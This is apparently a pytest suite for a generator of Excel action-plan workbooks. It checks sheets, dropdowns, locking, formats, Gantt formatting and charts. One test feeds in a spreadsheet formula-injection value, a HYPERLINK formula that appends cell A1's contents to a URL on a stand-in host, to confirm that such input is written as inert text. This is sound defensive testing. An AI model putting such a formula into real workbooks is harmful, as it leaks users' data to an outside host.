"""The generated workbook, read back with a second library (openpyxl)."""

from __future__ import annotations

import os
import re
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from helpers import LANGS, TEMPLATES, clipped_headers, make, resolve_name, table_cells, zip_text

from pac_excel import GenerateOptions, PlanData, generate, schema
from pac_excel.errors import OutputExistsError, UsageError, WriteError
from pac_excel.templates import get_template

CASES = [(t, lang) for t in TEMPLATES for lang in LANGS]


@pytest.fixture(scope="module")
def books(tmp_path_factory):
    d = tmp_path_factory.mktemp("gen")
    return {(t, lang): make(d, f"{t}_{lang}.xlsx", template=t, lang=lang, year=2026) for t, lang in CASES}


@pytest.mark.parametrize("template, lang", CASES)
def test_sheets_follow_the_template_and_language(books, template, lang):
    wb = openpyxl.load_workbook(books[template, lang])
    expected = [schema.sheet_name(s.kind, lang) for s in get_template(template).sheets] + [schema.META_SHEET_NAME]
    assert wb.sheetnames == expected
    assert wb[schema.META_SHEET_NAME].sheet_state == "hidden"


@pytest.mark.parametrize("template, lang", CASES)
def test_workbook_says_which_template_version_and_language_it_is(books, template, lang):
    wb = openpyxl.load_workbook(books[template, lang])
    values = {k: resolve_name(wb, f"pac_{k}")[1][0].value for k in ("template", "version", "lang")}
    assert values == {"template": template, "version": get_template(template).version, "lang": lang}


@pytest.mark.parametrize("template, lang", CASES)
def test_table_headers_are_the_schema_labels(books, template, lang):
    wb = openpyxl.load_workbook(books[template, lang])
    tpl = get_template(template)
    for kind in ("actions", "tasks", "kpis", "rituals", "obstacles"):
        if not tpl.has(kind):
            continue
        ws = wb[schema.sheet_name(kind, lang)]
        table = ws.tables[schema.TABLE_BY_KEY[kind].table_name]
        headers, _ = table_cells(ws, table)
        assert headers == [c.label(lang) for c in tpl.columns(kind)]


@pytest.mark.parametrize("template, lang", CASES)
def test_every_dropdown_points_at_a_real_range_with_the_right_values(books, template, lang):
    wb = openpyxl.load_workbook(books[template, lang])
    seen = set()
    for ws in wb.worksheets:
        for dv in ws.data_validations.dataValidation:
            if dv.type != "list":
                continue
            name = dv.formula1
            assert name in wb.defined_names, f"{ws.title} {dv.sqref}: {name} is not defined"
            _target_ws, cells = resolve_name(wb, name)
            assert cells, name
            seen.add(name)
            key = name.removeprefix("list_")
            if key in schema.LIST_BY_KEY and schema.LIST_BY_KEY[key].values:
                assert [c.value for c in cells][: len(schema.LIST_BY_KEY[key].values)] == \
                    schema.LIST_BY_KEY[key].labels(lang)
            if name == schema.OBJECTIVE_IDS:
                assert [c.value for c in cells[:3]] == ["OBJ-1", "OBJ-2", "OBJ-3"]
            if name == "list_owner":
                assert len(cells) == schema.OWNERS.size and not any(c.protection.locked for c in cells)
    assert "list_status" in seen and "list_owner" in seen


@pytest.mark.parametrize("template, lang", CASES)
def test_computed_cells_locked_input_cells_unlocked(books, template, lang):
    wb = openpyxl.load_workbook(books[template, lang])
    checked = 0
    for ws in wb.worksheets:
        for table in ws.tables.values():
            tdef = next(t for t in schema.TABLES if t.table_name == table.name)
            headers, rows = table_cells(ws, table)
            by_label = {c.label(lang): c for c in tdef.columns}
            for row in rows:
                for label, cell in zip(headers, row):
                    col = by_label[label]
                    assert cell.protection.locked == col.computed, (ws.title, cell.coordinate)
                    if col.computed:
                        assert isinstance(cell.value, str) and cell.value.startswith("="), cell.coordinate
                    checked += 1
    assert checked > 100


@pytest.mark.parametrize("template, lang", CASES)
def test_computed_sheets_protected_input_sheets_open_by_default(books, template, lang):
    wb = openpyxl.load_workbook(books[template, lang])
    for spec in get_template(template).sheets:
        ws = wb[schema.sheet_name(spec.kind, lang)]
        fully_computed = spec.kind in ("guide", "planning", "dashboard", "lists")
        assert bool(ws.protection.sheet) == fully_computed, ws.title
        if fully_computed:
            assert ws.protection.password is None  # protected without password


def test_protect_option_protects_input_sheets_too(tmp_path):
    wb = openpyxl.load_workbook(make(tmp_path, protect=True))
    assert wb[schema.sheet_name("actions", "fr")].protection.sheet
    assert wb[schema.sheet_name("strategy", "fr")].protection.sheet


def test_action_table_can_grow_and_fill_its_formulas(tmp_path):
    """Excel extends a Table when a row is typed just below it, and copies a column's
    calculatedColumnFormula into the new row; a totals row would stop the growth."""
    path = make(tmp_path, actions=7)
    wb = openpyxl.load_workbook(path)
    ws = wb[schema.sheet_name("actions", "fr")]
    table = ws.tables["T_Actions"]
    _c0, r0, _c1, r1 = openpyxl.utils.cell.range_boundaries(table.ref)
    assert r1 - r0 == 7 and not table.totalsRowCount and table.autoFilter is not None
    xml = next(zip_text(path, n) for n in zipfile.ZipFile(path).namelist()
               if n.startswith("xl/tables/") and 'name="T_Actions"' in zip_text(path, n))
    formulas = dict(re.findall(r'<tableColumn [^>]*name="([^"]+)"[^>]*><calculatedColumnFormula>([^<]+)<', xml))
    computed = {c.label("fr") for c in schema.ACTIONS.columns if c.computed}
    assert set(formulas) == computed
    # every data row holds exactly the calculated column formula
    headers, rows = table_cells(ws, table)
    for label, f in formulas.items():
        f = f.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
        col = headers.index(label)
        assert {row[col].value for row in rows} == {"=" + f}


@pytest.mark.parametrize("n", [1, 50, 120])
def test_actions_option_sets_the_number_of_rows(tmp_path, n):
    wb = openpyxl.load_workbook(make(tmp_path, actions=n))
    ws = wb[schema.sheet_name("actions", "fr")]
    _c0, r0, _c1, r1 = openpyxl.utils.cell.range_boundaries(ws.tables["T_Actions"].ref)
    assert r1 - r0 == n


def test_formats_are_french_money_and_dates(tmp_path):
    wb = openpyxl.load_workbook(make(tmp_path))
    ws = wb[schema.sheet_name("actions", "fr")]
    headers, rows = table_cells(ws, ws.tables["T_Actions"])
    row = rows[0]
    fmt = {h: row[i].number_format for i, h in enumerate(headers)}
    assert fmt["Date début"] == "dd/mm/yyyy" and fmt["Date fin"] == "dd/mm/yyyy"
    assert fmt["Budget prévu"].startswith('#,##0 "€"')  # shown as "# ##0 €" in French Excel
    assert fmt["Taux d’atteinte"] == "0%"
    assert ws.freeze_panes == "D5"  # header row and the N°, Objectif lié, Action columns stay visible
    assert ws.print_title_rows == "$4:$4" and ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0  # 1 page wide (1 = default)
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.paperSize == 8  # A3 for 27 columns


def test_date_validation_refuses_end_before_start(tmp_path):
    wb = openpyxl.load_workbook(make(tmp_path))
    ws = wb[schema.sheet_name("actions", "fr")]
    headers, rows = table_cells(ws, ws.tables["T_Actions"])
    end = rows[0][headers.index("Date fin")].coordinate
    start = rows[0][headers.index("Date début")].coordinate
    rules = [dv for dv in ws.data_validations.dataValidation if end in dv.sqref]
    assert len(rules) == 1 and rules[0].type == "custom"
    f = rules[0].formula1.replace("$", "")
    assert f"{end}>={start}" in f and "ISNUMBER" in f
    assert rules[0].errorStyle in (None, "stop") and "date" in rules[0].error.lower()


def test_text_from_content_is_written_as_text_never_as_formula(tmp_path):
    data = PlanData(company="=HYPERLINK(\"http://x/?d=\"&A1,\"Clic\")",
                    actions=[{"action": "=1+1", "owner": "@SUM(A1)", "steps": "http://example.invalid/x"}])
    wb = openpyxl.load_workbook(generate(tmp_path / "t.xlsx", GenerateOptions(), data))
    ws = wb[schema.sheet_name("actions", "fr")]
    headers, rows = table_cells(ws, ws.tables["T_Actions"])
    assert rows[0][headers.index("Action")].data_type == "s"
    assert rows[0][headers.index("Action")].value == "=1+1"
    assert rows[0][headers.index("Qui")].data_type == "s"
    strat = wb[schema.sheet_name("strategy", "fr")]
    assert strat["B4"].data_type == "s" and strat["B4"].value.startswith("=HYPERLINK")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:  # no link anywhere in the package, whatever openpyxl shows
        parts = [z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels"))]
    assert not any(b"<hyperlink " in p or b"/relationships/hyperlink" in p for p in parts)


def test_same_inputs_give_the_same_bytes(tmp_path):
    opts = dict(year=2026, created=datetime(2026, 1, 1))
    a = generate(tmp_path / "a.xlsx", GenerateOptions(**opts)).read_bytes()
    b = generate(tmp_path / "b.xlsx", GenerateOptions(**opts)).read_bytes()
    assert a == b


def test_existing_file_is_kept_unless_forced(tmp_path):
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"precious")
    with pytest.raises(OutputExistsError) as err:
        generate(target, GenerateOptions())
    assert "--force" in err.value.message("en") and "--force" in str(err.value)
    assert target.read_bytes() == b"precious"
    generate(target, GenerateOptions(force=True))
    assert zipfile.is_zipfile(target)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]  # no temporary file left
    mask = os.umask(0)
    os.umask(mask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~mask  # an ordinary file, not mkstemp's 0600


def test_failed_write_leaves_nothing_behind(tmp_path, monkeypatch):
    import pac_excel.generator as gen

    def boom(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(gen, "_write", boom)
    with pytest.raises(WriteError) as err:
        generate(tmp_path / "plan.xlsx", GenerateOptions())
    assert err.value.key == "err.write" and "disk full" in str(err.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("opts, key", [
    (dict(lang="de"), "err.lang"), (dict(year=1999), "err.year"), (dict(actions=0), "err.actions"),
    (dict(template="nope"), "err.template_unknown"),
])
def test_bad_requests_are_usage_errors(tmp_path, opts, key):
    with pytest.raises(UsageError) as err:
        generate(tmp_path / "p.xlsx", GenerateOptions(**opts))
    assert err.value.key == key and err.value.exit_code == 2


def test_trame_lists_the_families_of_actions(tmp_path):
    tpl = get_template("trame")
    families = [row["action"]["fr"] for row in tpl.prefill["actions"]]
    assert len(families) == 15
    wb = openpyxl.load_workbook(make(tmp_path, template="trame"))
    ws = wb[schema.sheet_name("actions", "fr")]
    headers, rows = table_cells(ws, ws.tables["T_Actions"])
    assert "Phase du plan" in headers
    written = [r[headers.index("Action")].value for r in rows if r[headers.index("Action")].value]
    assert written == families
    phases = {r[headers.index("Phase du plan")].value for r in rows[:15]}
    assert phases == {"Préparatoire", "Opérationnelle"}


def test_objectif_template_is_one_objective_with_tasks_budget_and_indicators(tmp_path):
    wb = openpyxl.load_workbook(make(tmp_path, template="objectif", lang="en"))
    ws = wb["Tasks"]
    headers, _ = table_cells(ws, ws.tables["T_Taches"])
    assert headers[:7] == ["Task", "Owner", "Deadline", "Duration (days)", "% done", "Means", "Budget"]
    sheet = wb[schema.sheet_name("objective", "en")]  # who and when, as on the other templates' Strategy sheet
    assert [sheet.cell(r, 1).value for r in (4, 5, 6)] == [label("en") for _, label in schema.STRATEGY_FIELDS]
    kp = wb["Indicators"]
    headers, _ = table_cells(kp, kp.tables["T_Indicateurs"])
    assert {"Initial value", "Target value", "Latest value", "Attainment"} <= set(headers)


def test_company_team_year_reach_the_strategy_sheet(tmp_path):
    wb = openpyxl.load_workbook(make(tmp_path, company="ACME", team="Agence Lyon", year=2027))
    ws = wb[schema.sheet_name("strategy", "fr")]
    assert (ws["B4"].value, ws["B5"].value, ws["B6"].value) == ("ACME", "Agence Lyon", "2027")
    rev = wb[schema.sheet_name("revenue", "fr")]
    assert rev["D5"].value == 2027
    plan = wb[schema.sheet_name("planning", "fr")]
    months = [c.value for c in plan[5] if isinstance(c.value, datetime)]
    assert months == [datetime(2027, m, 1) for m in range(1, 13)]


def test_the_formula_cache_relies_on_xlsxwriter_as_it_is(tmp_path, monkeypatch):
    """Generation wraps one private xlsxwriter method (Worksheet._prepare_formula) to prepare
    each distinct formula once. If xlsxwriter renames it or changes its signature this fails
    loudly (the wrapper itself would silently stop caching); the bytes are the same with and
    without the cache, and the cache is really hit."""
    import inspect

    import xlsxwriter.worksheet

    import pac_excel.generator.book as book

    prepare = xlsxwriter.worksheet.Worksheet._prepare_formula
    assert list(inspect.signature(prepare).parameters)[:3] == ["self", "formula", "expand_future_functions"]
    calls: list[str] = []

    def counting(self, formula, expand_future_functions=False):
        calls.append(formula)
        return prepare(self, formula, expand_future_functions)

    monkeypatch.setattr(xlsxwriter.worksheet.Worksheet, "_prepare_formula", counting)
    opts = dict(year=2026, created=datetime(2026, 1, 1), actions=200, force=True)
    cached = generate(tmp_path / "cached.xlsx", GenerateOptions(**opts)).read_bytes()
    with_cache = len(calls)
    calls.clear()
    monkeypatch.setattr(book, "memoize_formulas", lambda ws: ws)
    plain = generate(tmp_path / "plain.xlsx", GenerateOptions(**opts)).read_bytes()
    assert cached == plain
    assert len(set(calls)) <= with_cache < len(calls) // 2  # each distinct formula prepared once per sheet


@pytest.mark.parametrize("template", ["pac", "trame", "objectif"])
def test_company_and_team_are_written_by_every_template(tmp_path, template):
    """--company and --team reach every template (the objectif template dropped them without a
    word before version 1.1), and are read back."""
    from pac_excel import read_plan

    path = generate(tmp_path / "p.xlsx", GenerateOptions(template=template, company="ACME SAS", team="Agence Lyon",
                                                         year=2027))
    back = read_plan(path).data
    assert (back.company, back.team) == ("ACME SAS", "Agence Lyon")


def test_no_header_is_clipped(tmp_path):
    """Issue 15, defect 4: every header of every template and language, of the report and of the
    consolidated workbook fits its cell ("Actual revenue" in the quarterly table, "Résultat
    obtenu" in the consolidated Plan d'actions were cut)."""
    from click.testing import CliRunner

    from pac_excel.cli import main

    paths = [generate(tmp_path / f"{t}-{lang}.xlsx", GenerateOptions(template=t, lang=lang))
             for t in ("pac", "trame", "objectif") for lang in ("fr", "en")]
    sample = Path(__file__).resolve().parent.parent / "samples" / "pac_formation_rh.xlsx"
    for lang in ("fr", "en"):
        r = CliRunner().invoke(main, ["consolidate", str(sample), "-o", str(tmp_path / f"c-{lang}.xlsx"),
                                      "--lang", lang])
        assert r.exit_code == 0, r.output
        r = CliRunner().invoke(main, ["analyze", str(sample), "-o", str(tmp_path / f"r-{lang}.xlsx"), "--lang", lang])
        assert r.exit_code == 0, r.output
        paths += [tmp_path / f"c-{lang}.xlsx", tmp_path / f"r-{lang}.xlsx"]
    assert {p.name: clipped_headers(p) for p in paths if clipped_headers(p)} == {}


def test_dashboard_charts_have_a_clean_empty_state(tmp_path):
    """Issue 15, defect 3: no value axis made up for no data ("0 € / 1 € / 1 €", "0–1200 %"): the
    charts of the dashboard show their values on the bars, zeros and blanks unlabelled, and the
    unnamed rows of the category list are hidden (a chart does not plot hidden rows)."""
    import html
    import re

    path = generate(tmp_path / "blank.xlsx", GenerateOptions(year=2026))
    with zipfile.ZipFile(path) as z:
        charts = [z.read(n).decode() for n in sorted(z.namelist()) if re.match(r"xl/charts/chart\d+\.xml$", n)]
    assert len(charts) == 4
    for xml in charts:
        assert '<c:plotVisOnly val="1"/>' in xml  # hidden rows are not plotted
        for axis in re.findall(r"<c:valAx>.*?</c:valAx>", xml, re.S):
            assert '<c:delete val="1"/>' in axis, "a value axis is shown"
        for fmt in re.findall(r'<c:dLbls><c:numFmt formatCode="([^"]*)"', xml):
            assert html.unescape(fmt).endswith(';""'), fmt  # zero: no label
    wb = openpyxl.load_workbook(path)
    ws = wb[schema.sheet_name("dashboard", "fr")]
    names = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)]
    first = names.index(schema.ACTIONS.column("category").label("fr")) + 2  # below the table's header
    rows = range(first, first + schema.CATEGORY.cells)
    visible = [r for r in rows if not ws.row_dimensions[r].hidden]
    assert len(visible) == len(schema.CATEGORY.labels("fr"))  # the named ones; the 20 rows all compute


def test_gantt_shows_today_cancelled_and_readable_headers(tmp_path):
    """Issue 15, defect 2: the current month is dark text on yellow and runs down the chart; an
    abandoned action is drawn in its own colour."""
    path = generate(tmp_path / "p.xlsx", GenerateOptions(year=2026))
    wb = openpyxl.load_workbook(path)
    ws = wb[schema.sheet_name("planning", "fr")]
    rules = [(str(cf.sqref), r) for cf in ws.conditional_formatting for r in cf.rules]
    today = [(ref, r) for ref, r in rules if "TODAY()>=" in r.formula[0]]
    from openpyxl.utils import get_column_letter

    first_month = get_column_letter(next(c.column for c in ws[5] if isinstance(c.value, datetime)))
    header = [r for ref, r in today if ref.startswith(f"{first_month}4")]
    body = [r for ref, r in today if ref.startswith(f"{first_month}6")]
    assert header and body, [ref for ref, _ in today]
    font = header[0].dxf.font.color.rgb
    fill = header[0].dxf.fill.bgColor.rgb or header[0].dxf.fill.fgColor.rgb
    lum = lambda rgb: sum(int(rgb[-6:][i:i + 2], 16) * w for i, w in ((0, .299), (2, .587), (4, .114)))  # noqa: E731
    assert lum(fill) - lum(font) > 125  # dark text on a light fill
    cancelled = schema.STATUS.label("cancelled", "fr")
    drawn = {r.formula[0].split('="')[-1].rstrip('")'): (r.dxf.fill.bgColor.rgb or r.dxf.fill.fgColor.rgb)
             for _, r in rules if "EOMONTH" in r.formula[0] and '="' in r.formula[0] and "<>" not in r.formula[0]}
    plan = next(r.dxf.fill.bgColor.rgb or r.dxf.fill.fgColor.rgb for _, r in rules
                if r.formula[0].startswith("AND(ISNUMBER") and '"' not in r.formula[0] and "TODAY" not in r.formula[0])
    assert cancelled in drawn and drawn[cancelled] != plan
    done = next(r for _, r in rules if f'="{schema.STATUS.label("done", "fr")}"' in r.formula[0])
    assert ">=1" in done.formula[0]  # 100 % done is drawn done, as the plan counts it


def test_gantt_draws_a_today_line_through_the_bars_in_both_applications(tmp_path):
    """Issue 15: a today line on the Gantt — the current month's column framed in red from its
    header down, bars included. LibreOffice applies only the first true rule of a range: every
    bar rule has a framed twin for the current month, tested before it."""
    ws = openpyxl.load_workbook(generate(tmp_path / "p.xlsx", GenerateOptions(year=2026)))[
        schema.sheet_name("planning", "fr")]
    body = [r for cf in ws.conditional_formatting for r in cf.rules if "EOMONTH" in r.formula[0]]
    body.sort(key=lambda r: r.priority)

    def framed(r) -> bool:
        b = r.dxf.border
        return bool(b and b.left and b.right and b.left.style and b.right.style
                    and b.left.color.rgb.endswith("C00000") and b.right.color.rgb.endswith("C00000"))

    def fill(r) -> str:
        return r.dxf.fill.bgColor.rgb or r.dxf.fill.fgColor.rgb

    is_today = lambda r: "TODAY()>=" in r.formula[0]  # noqa: E731
    bars = [r for r in body if not is_today(r) and "ISNUMBER" in r.formula[0]]
    twins = [r for r in body if is_today(r) and "ISNUMBER" in r.formula[0]]
    assert len(bars) == 4 and len(twins) == 4
    for bar in bars:  # each bar style has its framed twin, same colour, earlier in priority
        twin = next(t for t in twins if t.formula[0].endswith(bar.formula[0] + ")"))
        assert framed(twin) and not framed(bar) and fill(twin) == fill(bar) and twin.priority < bar.priority
    column = [r for r in body if is_today(r) and "ISNUMBER" not in r.formula[0]]
    assert column and all(framed(r) for r in column)  # the empty cells of the month, and its header
    assert max(t.priority for t in twins) < min(b.priority for b in bars)


@pytest.mark.parametrize("stage", ["startup", "growth"])
def test_funnel_cached_values_follow_the_business_stage(tmp_path, stage):
    """Readers that do not recalculate see the funnel's volumes needed for the stage chosen."""
    factor = {"startup": 3, "growth": 2}[stage]
    rows = [dict(contacts=100, meetings=25, proposals=10, signed=3, target=4)]
    path = generate(tmp_path / "f.xlsx", GenerateOptions(year=2026), PlanData(funnel=rows, funnel_stage=stage))
    ws = openpyxl.load_workbook(path, data_only=True)[schema.sheet_name("funnel", "fr")]
    headers, cells = table_cells(ws, ws.tables["T_Prospection"])
    got = {c.key: cells[0][headers.index(c.label("fr"))].value for c in schema.FUNNEL.columns}
    assert (got["need_proposals"], got["need_meetings"], got["need_contacts"]) == (4 * factor, 4 * factor ** 2,
                                                                                  4 * factor ** 3)
    assert (got["rate_meetings"], got["rate_proposals"], got["rate_signed"]) == (25 / 100, 10 / 25, 3 / 10)
    assert ws["F4"].value == factor
